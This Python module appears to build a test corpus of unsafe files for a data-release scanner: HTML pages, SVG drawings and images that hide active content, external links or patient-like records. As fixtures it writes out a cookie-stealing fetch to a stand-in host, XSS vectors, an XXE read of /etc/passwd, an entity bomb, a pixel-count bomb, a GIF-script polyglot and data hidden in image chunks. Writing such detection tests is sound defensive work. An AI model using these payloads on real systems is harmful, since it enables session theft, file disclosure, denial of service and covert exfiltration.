"""Pages, drawings and images that carry more than they show."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator
from functools import partial
from typing import Any, Final

from hub_config.airlock.checks.inside.reasons import Reason
from hub_config.governance.releases.findings import Rule
from tests.corpus.cases import Case, aside, unsafe
from tests.corpus.planted import ONE, zipped
from tests.corpus.tables import page_of

# --- pages and drawings ------------------------------------------------------------------------------------


def pages() -> Iterator[Case]:
    bodies = {
        "script": ("<script>fetch('//x.example/'+document.cookie)</script>", Rule.ACTIVE_CONTENT),
        "onerror": ("<img src=x onerror=alert(1)>", Rule.ACTIVE_CONTENT),
        "svg-onload": ("<svg/onload=alert(1)>", Rule.ACTIVE_CONTENT),
        "javascript": ("<a href='java&#10;script:alert(1)'>x</a>", Rule.ACTIVE_CONTENT),
        "iframe": ("<iframe srcdoc='<script>1</script>'></iframe>", Rule.ACTIVE_CONTENT),
        "formulaire": ("<form action=https://x.example><input name=a value=3></form>", Rule.ACTIVE_CONTENT),
        "refresh": ("<meta http-equiv=refresh content='0;url=//x.example'>", Rule.ACTIVE_CONTENT),
        "objet": ("<object data=a.swf></object>", Rule.ACTIVE_CONTENT),
        "image-distante": ("<img src='https://x.example/p?d=12'>", Rule.EXTERNAL_LINK),
        "style-distant": ("<p style='background:url(https://x.example)'>x</p>", Rule.EXTERNAL_LINK),
        "import": ("<style>@import '//x.example/a.css';</style>", Rule.EXTERNAL_LINK),
        "donnees": ("<a href='data:text/csv;base64,YSxi'>x</a>", Rule.EMBEDDED_OBJECT),
        "modele": (f"<template><p>{ONE}</p></template>", Rule.HIDDEN_CONTENT),
        "blanc": (f"<p style='color:#fff'>{ONE}</p>", Rule.HIDDEN_CONTENT),
        "minuscule": (f"<p style='font-size:0'>{ONE}</p>", Rule.HIDDEN_CONTENT),
        "contenu-css": ("<style>p::after{content:'3 patients'}</style><p></p>", Rule.HIDDEN_CONTENT),
        "inacheve": (f"<p>ok</p><!-- {ONE}", Rule.HIDDEN_CONTENT),
        "malforme": ("<table><tr><td><ScRiPt/x>1</sCrIpT", Rule.ACTIVE_CONTENT),
    }
    for name, (body, rule) in bodies.items():
        yield unsafe(f"page-{name}.html", partial(page_of, body), f"a page: {name}", rule)


_SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


def drawings() -> Iterator[Case]:
    bodies = {
        "script": ("<script>1</script>", Rule.ACTIVE_CONTENT),
        "onclick": ("<rect onclick='x()'/>", Rule.ACTIVE_CONTENT),
        "animation": ("<a><animate attributeName='href' to='javascript:1'/></a>", Rule.ACTIVE_CONTENT),
        "foreign": ("<foreignObject><p>3</p></foreignObject>", Rule.EMBEDDED_OBJECT),
        "image": ("<image xlink:href='https://x.example/a.png'/>", Rule.EXTERNAL_LINK),
        "style": ("<style>@import url(https://x.example/a)</style>", Rule.EXTERNAL_LINK),
        "donnees": ("<image href='data:text/html;base64,PGI+'/>", Rule.EMBEDDED_OBJECT),
        "cache": (f"<text display='none'>{ONE}</text>", Rule.HIDDEN_CONTENT),
        "transparent": (f"<text style='opacity:0'>{ONE}</text>", Rule.HIDDEN_CONTENT),
        "attribut": (f"<g data-ids='{ONE}'/>", Rule.HIDDEN_CONTENT),
        "metadonnees": (f"<metadata>{ONE}</metadata>", Rule.PSEUDONYM),
        "effectif": ("<text>n = 4 patients</text>", Rule.SMALL_COUNT),
    }
    for name, (body, rule) in bodies.items():
        yield unsafe(f"dessin-{name}.svg", partial(_drawn, body), f"a drawing: {name}", rule)
    xxe = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _SVG.format("<text>&x;</text>")
    yield aside("xxe.svg", partial(bytes, xxe.encode()), "an external entity", Reason.BOMB)
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    bomb = f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>' + _SVG.format("<text>&l9;</text>")
    yield aside("rires.svg", partial(bytes, bomb.encode()), "entities that multiply", Reason.BOMB)
    many = lambda: _drawn("<g/>" * 300_000)  # noqa: E731
    yield aside("elements.svg", many, "300,000 elements", Reason.TOO_MUCH)


def _drawn(body: str) -> bytes:
    return _SVG.format(body).encode()


# --- images ------------------------------------------------------------------------------------------------


def png(mode: str = "RGB", **options: Any) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new(mode, (16, 16)).save(out, "PNG", **options)
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _with_chunk(kind: bytes, body: bytes) -> bytes:
    whole = png()
    at = whole.index(b"IDAT") - 4
    return whole[:at] + _chunk(kind, body) + whole[at:]


def images() -> Iterator[Case]:
    text = b"Comment\x00" + str(ONE).encode()
    packed = b"Comment\x00\x00" + zlib.compress(str(ONE).encode())
    yield unsafe(
        "texte.png", partial(_with_chunk, b"tEXt", text), "a text", Rule.DOCUMENT_METADATA, Rule.PSEUDONYM
    )
    yield unsafe("texte-comprime.png", partial(_with_chunk, b"zTXt", packed), "a packed text", Rule.PSEUDONYM)
    yield unsafe("bloc.png", partial(_with_chunk, b"paTi", b"1,2,3"), "an unknown chunk", Rule.HIDDEN_CONTENT)
    yield from _beside_pixels()
    yield unsafe("anime.png", _animated, "further images", Rule.HIDDEN_CONTENT)
    yield unsafe("suite.png", lambda: png() + b"3 patients", "bytes after the end", Rule.TRAILING_BYTES)
    yield unsafe("apres-pixels.png", _extra_pixels, "bytes after the pixels", Rule.HIDDEN_CONTENT)
    yield unsafe("transparent.png", _under_transparency, "a picture under transparency", Rule.HIDDEN_CONTENT)
    yield unsafe("exif.jpg", partial(_jpeg, exif=True), "a text in EXIF", Rule.PSEUDONYM)
    yield unsafe("commentaire.jpg", partial(_jpeg, comment=str(ONE).encode()), "a comment", Rule.PSEUDONYM)
    yield unsafe("suite.jpg", lambda: _jpeg() + b"secret", "bytes after the end", Rule.TRAILING_BYTES)
    yield unsafe("vignette.jpg", _with_thumbnail, "another image within", Rule.EMBEDDED_OBJECT)
    yield aside(
        "zip.png", lambda: png() + zipped({"a.csv": b"1"}), "an image and an archive", Reason.POLYGLOT
    )
    yield aside("60000.png", partial(_claimed, 60_000), "3,600 million pixels", Reason.BOMB)
    yield aside("coupe.png", lambda: png()[:40], "half an image", Reason.DAMAGED)
    yield aside(
        "page.gif",
        lambda: b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)",
        "a GIF that is a program",
        Reason.UNKNOWN_KIND,
    )


def _beside_pixels() -> Iterator[Case]:
    """In parts that every image may have: with other lengths, twice, where no decoder looks."""
    rows = f"45;F;2013-02-03;T90\n{ONE}\n".encode()
    hidden = (Rule.HIDDEN_CONTENT, Rule.PSEUDONYM)
    for kind in (b"bKGD", b"sBIT", b"cICP", b"pHYs", b"gAMA", b"cHRM", b"sRGB", b"PLTE", b"tIME"):
        name = kind.decode()
        yield unsafe(f"morceau-{name}.png", partial(_with_chunk, kind, rows), f"rows as {name}", *hidden)
    profile = b"x\x00\x00" + zlib.compress(rows)
    yield unsafe(
        "profil.png", partial(_with_chunk, b"iCCP", profile), "rows as a colour profile", Rule.HIDDEN_CONTENT
    )
    tool = b"Software\x00Matplotlib version" + rows
    yield unsafe("outil.png", partial(_with_chunk, b"tEXt", tool), "rows as the name of a tool", *hidden)
    for name, marker, body in (
        ("app14", 0xEE, b"Adobe" + rows),
        ("app2", 0xE2, b"ICC_PROFILE\x00\x01\x01" + rows),
        ("table", 0xDB, b"\x03" + rows.ljust(64)),
    ):
        make = partial(_with_segment, marker, body)
        yield unsafe(f"segment-{name}.jpg", make, f"rows as a JPEG's {name}", *hidden)
    yield unsafe("entre-passes.jpg", partial(_between_scans, rows), "rows between two scans", *hidden)


def _with_segment(marker: int, body: bytes) -> bytes:
    whole = _jpeg()
    return whole[:2] + _segment(marker, body) + whole[2:]


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def _between_scans(body: bytes) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(out, "JPEG", progressive=True)
    whole = out.getvalue()
    at = whole.index(b"\xff\xc4", whole.index(b"\xff\xda"))
    return whole[:at] + _segment(0xFE, body) + whole[at:]


def _animated() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _extra_pixels() -> bytes:
    whole = png()
    at = whole.index(b"IDAT")
    (length,) = struct.unpack_from(">I", whole, at - 4)
    pixels = zlib.decompress(whole[at + 4 : at + 4 + length]) + b"3 patients"
    return whole[: at - 4] + _chunk(b"IDAT", zlib.compress(pixels)) + whole[at + 8 + length :]


def _under_transparency() -> bytes:
    from PIL import Image

    image = Image.new("RGBA", (16, 16), (255, 255, 255, 0))
    for at in range(16):
        image.putpixel((at, at), (at * 9, 0, 255 - at, 0))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def _jpeg(*, exif: bool = False, comment: bytes = b"") -> bytes:
    from PIL import Image

    image = Image.new("RGB", (16, 16), "red")
    told = image.getexif()
    if exif:
        told[0x010E] = str(ONE)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=told, comment=comment)
    return out.getvalue()


def _with_thumbnail() -> bytes:
    whole = _jpeg()
    inner = b"Exif\x00\x00" + whole
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(inner) + 2) + inner + whole[2:]


def _claimed(side: int) -> bytes:
    whole = png()
    header = struct.pack(">II", side, side) + whole[24:29]
    return whole[:8] + _chunk(b"IHDR", header) + whole[33:]
